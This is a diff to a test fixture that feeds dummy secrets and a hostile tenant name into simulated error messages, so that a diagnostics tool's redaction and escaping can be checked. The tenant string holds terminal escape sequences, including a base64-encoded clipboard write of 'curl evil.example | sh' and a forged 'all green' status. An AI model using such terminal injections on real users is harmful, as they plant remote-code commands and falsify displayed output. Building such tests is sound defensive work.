@@ -74,6 +74,11 @@ const SECRETS = [
   { id: 'huggingface-token', text: 'model pull with hf_LeakyHuggingFaceToken0123456789ab', needles: ['LeakyHuggingFaceToken0123456789ab'] },
 ];
 
+// The tenant name in the settings error comes from the request, so it can carry terminal control
+// sequences: a clipboard write (OSC 52), a cleared screen, a window title, a bare CR. diagbot must show
+// them escaped (test/attack/secret-redaction.test.ts checks every sink and the CLI's text report).
+const HOSTILE_TENANT = 'acme\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\x1b[H\x1b]0;all green\x07\rPAYMENTS FINE';
+
 const byId = Object.fromEntries(SECRETS.map((s) => [s.id, s.text]));
 
 // A connection URL placed so that it straddles column 300 of the logged line, where diagbot clips
@@ -101,7 +106,7 @@ module.exports = (ctx) => {
     ...require('./catalog.cjs')(ctx),
     // Most frequent: the settings loader fails and the error carries its config (6 lines: all shown).
     'GET /api/leaky/settings': async () => {
-      throw leakyError(`settings load failed: ${byId['postgres-url']} ${byId['aws-access-key-id']}`,
+      throw leakyError(`settings load failed for tenant ${HOSTILE_TENANT}: ${byId['postgres-url']} ${byId['aws-access-key-id']}`,
         [byId['password-kv'].padEnd(270, ' ') + STRADDLE],
         [`stripe: '${byId['stripe-secret-key']}'`, `jwt: '${byId.jwt}'`]);
     },
@@ -130,6 +135,7 @@ const QUERY_SECRETS = [
   { id: 'query-sig', text: 'sig=LeakyQuerySig0123456789', needles: ['LeakyQuerySig0123456789'] },
 ];
 
+module.exports.HOSTILE_TENANT = HOSTILE_TENANT;
 module.exports.SECRETS = [...SECRETS, { id: 'straddling-url', text: STRADDLE, needles: ['StraddlePw'] }, ...QUERY_SECRETS];
 /** Paths for the lab's traffic (first and last 5xx lines carry query secrets). */
 module.exports.PATHS = {
